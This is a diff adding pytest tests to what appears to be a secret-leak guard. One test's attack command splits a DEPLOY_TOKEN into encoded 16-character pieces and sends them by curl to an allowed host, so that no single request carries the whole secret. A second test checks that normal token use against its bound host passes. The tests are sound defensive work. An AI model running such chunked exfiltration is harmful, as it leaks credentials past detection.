@@ -299,3 +299,34 @@ def test_a_named_secret_must_be_there(world: World) -> None:
     outcome = world.guard.run(["--secret", "NOT_SET"], ["true"])
     assert outcome.code == 2
     assert "NOT_SET" in outcome.stderr
+
+
+@pytest.mark.parametrize("how", ["raw", "base64", "hex"])
+def test_a_secret_that_leaves_in_pieces_over_many_requests(world: World, secret: str, how: str) -> None:
+    """To a host that is allowed; no request has the whole of it. Most of it must not have left when it is noticed."""
+    write = {"raw": "cat", "base64": "base64 -w0", "hex": "od -An -tx1 | tr -d ' \\n'"}[how]
+    attack = [
+        "sh",
+        "-c",
+        f'printf %s "$DEPLOY_TOKEN" | {write} | fold -w 16 | (n=0; while read -r part || [ "$part" ]; do n=$((n+1)); '
+        'curl -sS "https://api.example.com/page$n?q=$part" || exit 1; done)',
+    ]
+    outcome = world.guard.run(ALLOWED, attack, env={"DEPLOY_TOKEN": secret}, timeout=60)
+    assert outcome.code == 91, outcome.stderr
+    (leak,) = [one for one in outcome.incidents if one["kind"] == "exfiltration"]
+    assert leak["secret"] == "DEPLOY_TOKEN"
+    assert leak["encodings"] == ["pieces", how]
+    assert world.at(*APIS), "its first pieces are like anything else"
+    received = b"".join(one.path.encode() for connection in world.at(*APIS) for one in connection.requests)
+    pieces = received.count(b"?q=")
+    total = -(-{"raw": 40, "base64": 56, "hex": 80}[how] // 16)
+    assert pieces < total
+
+
+def test_the_same_token_in_its_place_again_and_again_is_no_secret_in_pieces(world: World, secret: str) -> None:
+    policy = "version: 1\nallow: [api.example.com]\nsecrets:\n  DEPLOY_TOKEN: { to: [api.example.com] }\n"
+    file = world.directory / "bound.yml"
+    file.write_text(policy)
+    use = ["sh", "-c", 'for n in 1 2 3; do curl -sS -u "x:$DEPLOY_TOKEN" "https://api.example.com/$n"; done']
+    outcome = world.guard.run(["--policy", str(file)], use, env={"DEPLOY_TOKEN": secret})
+    assert outcome.code == 0, outcome.stderr
